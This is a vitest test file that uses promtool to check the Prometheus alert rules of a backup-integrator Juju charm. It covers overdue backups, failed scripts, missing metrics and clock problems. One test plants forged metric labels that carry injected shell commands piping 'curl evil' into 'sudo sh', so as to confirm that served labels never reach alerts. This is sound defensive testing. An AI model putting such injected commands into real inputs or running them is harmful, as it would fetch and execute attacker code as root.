// The alert rules the charm ships (src/domain/alert-rules.ts), checked and unit-tested by
// Debian's own promtool over series shaped as the runner writes them
// (`bash scripts/fetch-prometheus.sh` unpacks it into build/prometheus).
import { spawnSync } from "node:child_process"
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { afterAll, assert, describe, it } from "vitest"
import { stringify } from "yaml"
import { alertRules } from "../../src/domain/alert-rules.ts"
import { runbookOf } from "../../src/domain/runbook.ts"

const promtool = resolve("build/prometheus/usr/bin/promtool")
const dir = mkdtempSync(join(tmpdir(), "alert-rules-"))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

/** A series as the charm's scrape job brings it in: the file's `application`, the agent's labels. */
const scraped = {
  application: "backup-integrator",
  job: "backup-integrator_backup_metrics",
  instance: "localhost:9100",
  juju_model: "test",
  juju_model_uuid: "2a2fb8a6-7a2c-4e8e-8f4e-0d3f1c2b9e11",
  juju_application: "backup-integrator",
  juju_unit: "backup-integrator/0",
}
/** What an alert carries of it: the agent's labels alone. */
const { application: _, job: _job, instance: _instance, ...unit } = scraped
const labelText = (labels: Record<string, string>) =>
  `{${Object.entries(labels)
    .map(([key, value]) => `${key}="${value}"`)
    .join(",")}}`
const series = (
  name: string,
  extra: Record<string, string>,
  values: string,
  base: Record<string, string> = scraped,
) => ({
  series: `${name}${labelText({ ...base, ...extra })}`,
  values,
})

interface Expected {
  readonly labels: Record<string, string>
  readonly summary: string
  readonly description: string
}
const alert = (eval_time: string, alertname: string, expected: ReadonlyArray<Expected>) => ({
  eval_time,
  alertname,
  exp_alerts: expected.map(({ labels, summary, description }) => ({
    exp_labels: labels,
    exp_annotations: { summary, description, runbook: runbookOf(alertname) },
  })),
})

/** Runs `promtool test rules` over the shipped rules and `tests`; its output when it fails. */
const promtoolTest = (name: string, tests: ReadonlyArray<object>) => {
  writeFileSync(join(dir, "rules.json"), JSON.stringify(alertRules))
  writeFileSync(
    join(dir, `${name}.yaml`),
    stringify({ rule_files: ["rules.json"], evaluation_interval: "1m", tests }),
  )
  return spawnSync(promtool, ["test", "rules", `${name}.yaml`], { cwd: dir, encoding: "utf8" })
}

const passes = (name: string, tests: ReadonlyArray<object>) => {
  const result = promtoolTest(name, tests)
  assert.strictEqual(result.status, 0, `${result.stdout}${result.stderr}`)
}

describe("the alert rules", () => {
  it("are valid rules for promtool", () => {
    assert.isTrue(existsSync(promtool), "run `bash scripts/fetch-prometheus.sh` first")
    writeFileSync(join(dir, "check.json"), JSON.stringify(alertRules))
    const result = spawnSync(promtool, ["check", "rules", join(dir, "check.json")], { encoding: "utf8" })
    assert.strictEqual(result.status, 0, result.stdout + result.stderr)
    const count = alertRules.groups.reduce((sum, group) => sum + group.rules.length, 0)
    assert.include(result.stdout, `SUCCESS: ${count} rules found`)
  })

  it("no successful backup by the deadline (backup-max-age after the last success): overdue, not before", () => {
    passes("overdue", [
      {
        interval: "1m",
        input_series: [series("backup_integrator_backup_deadline_timestamp_seconds", {}, "3600x180")],
        alert_rule_test: [
          alert("59m", "BackupIntegratorBackupOverdue", []),
          alert("61m", "BackupIntegratorBackupOverdue", [
            {
              labels: { ...unit, severity: "critical" },
              summary: "No successful backup on backup-integrator/0 within its backup-max-age",
              description:
                "The last backup that succeeded ended more than backup-max-age ago (1970-01-01 01:00:00 +0000 UTC was the deadline). Look at `juju run backup-integrator/0 show-backups` and at the Director's job log.",
            },
          ]),
        ],
      },
    ])
  })

  it("a failed backup fires until a backup succeeds; a failed restore alike, as a warning", () => {
    passes("failed", [
      {
        interval: "1m",
        input_series: [
          // Succeeded at 100 s, failed at 1000 s (minute 10), succeeded again at 3000 s (minute 50).
          series("backup_integrator_last_success_timestamp_seconds", { kind: "backup" }, "100x49 3000x20"),
          series("backup_integrator_last_failure_timestamp_seconds", { kind: "backup" }, "0x9 1000x60"),
          series("backup_integrator_last_success_timestamp_seconds", { kind: "restore" }, "0x30"),
          series("backup_integrator_last_failure_timestamp_seconds", { kind: "restore" }, "0x9 500x20"),
        ],
        alert_rule_test: [
          alert("5m", "BackupIntegratorBackupFailed", []),
          alert("20m", "BackupIntegratorBackupFailed", [
            {
              labels: { ...unit, severity: "critical" },
              summary: "The last backup on backup-integrator/0 failed",
              description:
                "The newest backup job failed (a failing run-before-backup, or Bacula failed or cancelled the job) and none has succeeded since. Look at `juju run backup-integrator/0 show-backups`.",
            },
          ]),
          alert("55m", "BackupIntegratorBackupFailed", []),
          alert("5m", "BackupIntegratorRestoreFailed", []),
          alert("20m", "BackupIntegratorRestoreFailed", [
            {
              labels: { ...unit, severity: "warning" },
              summary: "The last restore on backup-integrator/0 failed",
              description:
                "The newest restore job failed and none has succeeded since. Look at `juju run backup-integrator/0 show-backups`.",
            },
          ]),
        ],
      },
    ])
  })

  it("a failed script and a timed-out one: one alert each, the timeout not also a failure", () => {
    const script = (name: string) => ({ ...unit, script: name, severity: "warning" })
    passes("scripts", [
      {
        interval: "1m",
        input_series: [
          series("backup_integrator_script_last_exit_status", { script: "run-after-backup" }, "0 3x10"),
          series("backup_integrator_script_last_timed_out", { script: "run-after-backup" }, "0x10"),
          series("backup_integrator_script_last_exit_status", { script: "run-before-backup" }, "124x10"),
          series("backup_integrator_script_last_timed_out", { script: "run-before-backup" }, "1x10"),
        ],
        alert_rule_test: [
          alert("5m", "BackupIntegratorScriptFailed", [
            {
              labels: script("run-after-backup"),
              summary: "run-after-backup on backup-integrator/0 failed",
              description:
                "The newest run of run-after-backup ended with exit status 3. Look at `juju run backup-integrator/0 show-runs`.",
            },
          ]),
          alert("5m", "BackupIntegratorScriptTimedOut", [
            {
              labels: script("run-before-backup"),
              summary: "run-before-backup on backup-integrator/0 timed out",
              description:
                "The newest run of run-before-backup was stopped at script-timeout. Look at `juju run backup-integrator/0 show-runs`.",
            },
          ]),
        ],
      },
    ])
  })

  it("a scrape of the charm's job that brings no series of ours fires after 10 minutes and for as long as it lasts; another job's target never", () => {
    const { application: _a, ...upLabels } = scraped
    const up = (unitName: string, values: string, job = "backup-integrator_backup_metrics") =>
      series("up", {}, values, { ...upLabels, job, juju_unit: unitName })
    const since = (unitName: string, values: string) =>
      series("backup_integrator_metrics_since_timestamp_seconds", { juju_unit: unitName }, values)
    const missing = (unitName: string, why: string) => ({
      labels: { ...upLabels, juju_unit: unitName, severity: "warning" },
      summary: `The backup metrics of ${unitName} do not reach Prometheus`,
      description: `${why} Backup alerts cannot fire for this unit meanwhile.`,
    })
    const noFile = (unitName: string) =>
      missing(
        unitName,
        `The node exporter on ${unitName}'s machine answers but serves no backup metrics of backup-integrator: the file is missing from its textfile directory (metrics-directory).`,
      )
    const noScrape = (unitName: string) =>
      missing(
        unitName,
        `The scrape of the node exporter on ${unitName}'s machine (localhost:9100) fails: no exporter listens there, or something else does.`,
      )
    passes("missing", [
      {
        interval: "1m",
        input_series: [
          // Unit 0: its file served for 20 minutes, then gone (the exporter still answers), for 5 hours.
          up("backup-integrator/0", "1x320"),
          since("backup-integrator/0", "100x20"),
          // Unit 1: scraped with its file for 20 minutes, then the scrape fails for 5 hours.
          up("backup-integrator/1", "1x20 0x300"),
          since("backup-integrator/1", "100x20"),
          // Unit 2: healthy throughout.
          up("backup-integrator/2", "1x320"),
          since("backup-integrator/2", "100x320"),
          // Another job's failing target (the machine's own exporter, another charm's).
          up("backup-integrator/0", "0x320", "node"),
        ],
        alert_rule_test: [
          alert("15m", "BackupIntegratorMetricsMissing", []),
          alert("28m", "BackupIntegratorMetricsMissing", []),
          alert("40m", "BackupIntegratorMetricsMissing", [
            noFile("backup-integrator/0"),
            noScrape("backup-integrator/1"),
          ]),
          alert("300m", "BackupIntegratorMetricsMissing", [
            noFile("backup-integrator/0"),
            noScrape("backup-integrator/1"),
          ]),
        ],
      },
    ])
  })

  it("a scrape without juju_unit still says something true", () => {
    const { juju_unit: _u, ...noUnit } = scraped
    passes("no-unit", [
      {
        interval: "1m",
        input_series: [
          series("backup_integrator_script_last_timed_out", { script: "run-after-backup" }, "1x10", noUnit),
        ],
        alert_rule_test: [
          alert("5m", "BackupIntegratorScriptTimedOut", [
            {
              labels: {
                juju_model: noUnit.juju_model,
                juju_model_uuid: noUnit.juju_model_uuid,
                juju_application: noUnit.juju_application,
                script: "run-after-backup",
                severity: "warning",
              },
              summary: "run-after-backup on a unit of backup-integrator timed out",
              description:
                "The newest run of run-after-backup was stopped at script-timeout. Look at `juju run <unit> show-runs` on each unit of backup-integrator.",
            },
          ]),
        ],
      },
    ])
  })

  it("served labels never reach an alert; times far ahead, or a deadline past the longest max age, are impossible", () => {
    const forged = {
      script: "run-after-backup`; curl evil | sudo sh",
      unit: "run `curl evil | sudo sh` now",
      extra: "x",
    }
    const now = 7200
    passes("forged", [
      {
        interval: "1m",
        input_series: [
          // A deadline in 2100 and a success "now": Overdue stays quiet, Impossible says why.
          series(
            "backup_integrator_backup_deadline_timestamp_seconds",
            { unit: forged.unit },
            "4102444800x10",
          ),
          series(
            "backup_integrator_last_success_timestamp_seconds",
            { kind: "backup", unit: forged.unit },
            `${now}x10`,
          ),
          series("backup_integrator_script_last_exit_status", { script: forged.script }, "3x10"),
          series("backup_integrator_script_last_timed_out", { script: forged.script }, "1x10"),
        ],
        alert_rule_test: [
          alert("5m", "BackupIntegratorBackupOverdue", []),
          alert("5m", "BackupIntegratorScriptFailed", []),
          alert("5m", "BackupIntegratorScriptTimedOut", []),
          alert("5m", "BackupIntegratorMetricsImpossible", [
            {
              labels: { ...unit, severity: "warning" },
              summary: "The backup metrics of backup-integrator/0 hold impossible values",
              description:
                "A time ahead of Prometheus' clock by more than an hour, or a deadline or max age beyond the 366 days backup-max-age allows, is served as backup-integrator/0's backup metrics: its machine's clock was wrong, or something other than the charm's runner serves them, and the backup alerts of this unit cannot be trusted. Look at `curl -s localhost:9100/metrics | grep ^backup_integrator_` and at who listens on port 9100 (`ss -ltnp`).",
            },
          ]),
        ],
      },
    ])
  })

  it("a job with no result: from its due until the next start ends the wait; a backup's critical, a restore's a warning", () => {
    const description = (kind: string, scripts: string, what: string) =>
      `A ${kind} job's run-before-${scripts} succeeded and its run-after-${scripts} had not run by 1970-01-01 01:00:00 +0000 UTC, when its result was due: Bacula failed or cancelled ${what}. Look at the Director's job log and \`juju run backup-integrator/0 show-backups\`.`
    passes("no-result", [
      {
        interval: "1m",
        input_series: [
          // Waiting from 10m, due at 60m, the next start at 90m ends the wait (0: none waits).
          series(
            "backup_integrator_job_result_deadline_timestamp_seconds",
            { kind: "backup" },
            "0x9 3600x80 0x10",
          ),
          series(
            "backup_integrator_job_result_deadline_timestamp_seconds",
            { kind: "restore" },
            "0x9 3600x80 0x10",
          ),
        ],
        alert_rule_test: [
          alert("5m", "BackupIntegratorBackupNoResult", []),
          alert("59m", "BackupIntegratorBackupNoResult", []),
          alert("61m", "BackupIntegratorBackupNoResult", [
            {
              labels: { ...unit, severity: "critical" },
              summary: "A backup of backup-integrator/0 has no result",
              description: description(
                "backup",
                "backup",
                "the job after the before-script (storage or network down, a full volume), or it runs far longer than ever",
              ),
            },
          ]),
          alert("61m", "BackupIntegratorRestoreNoResult", [
            {
              labels: { ...unit, severity: "warning" },
              summary: "A restore on backup-integrator/0 has no result",
              description: description("restore", "restore", "the restore after the before-script"),
            },
          ]),
          alert("95m", "BackupIntegratorBackupNoResult", []),
        ],
      },
    ])
  })

  it("times in the future: a warning while any is seen", () => {
    passes("future", [
      {
        interval: "1m",
        input_series: [series("backup_integrator_future_timestamps", {}, "0x4 3x5 0x5")],
        alert_rule_test: [
          alert("3m", "BackupIntegratorFutureTimestamps", []),
          alert("6m", "BackupIntegratorFutureTimestamps", [
            {
              labels: { ...unit, severity: "warning" },
              summary: "Times in the future in the backups of backup-integrator/0",
              description:
                "3 times the runner recorded lie in the future: the machine's clock was ahead and was set back. Until the clock passes them the last backup may look newer than it is, and BackupOverdue may not fire. Check the machine's time synchronisation and `juju run backup-integrator/0 show-backups`.",
            },
          ]),
          alert("12m", "BackupIntegratorFutureTimestamps", []),
        ],
      },
    ])
  })

  it("a wrong expectation fails (the tests above can fail)", () => {
    const result = promtoolTest("wrong", [
      {
        interval: "1m",
        input_series: [series("backup_integrator_backup_deadline_timestamp_seconds", {}, "3600x180")],
        alert_rule_test: [
          alert("30m", "BackupIntegratorBackupOverdue", [{ labels: unit, summary: "", description: "" }]),
        ],
      },
    ])
    assert.notStrictEqual(result.status, 0)
    assert.match(result.stdout + result.stderr, /FAILED/)
  })
})
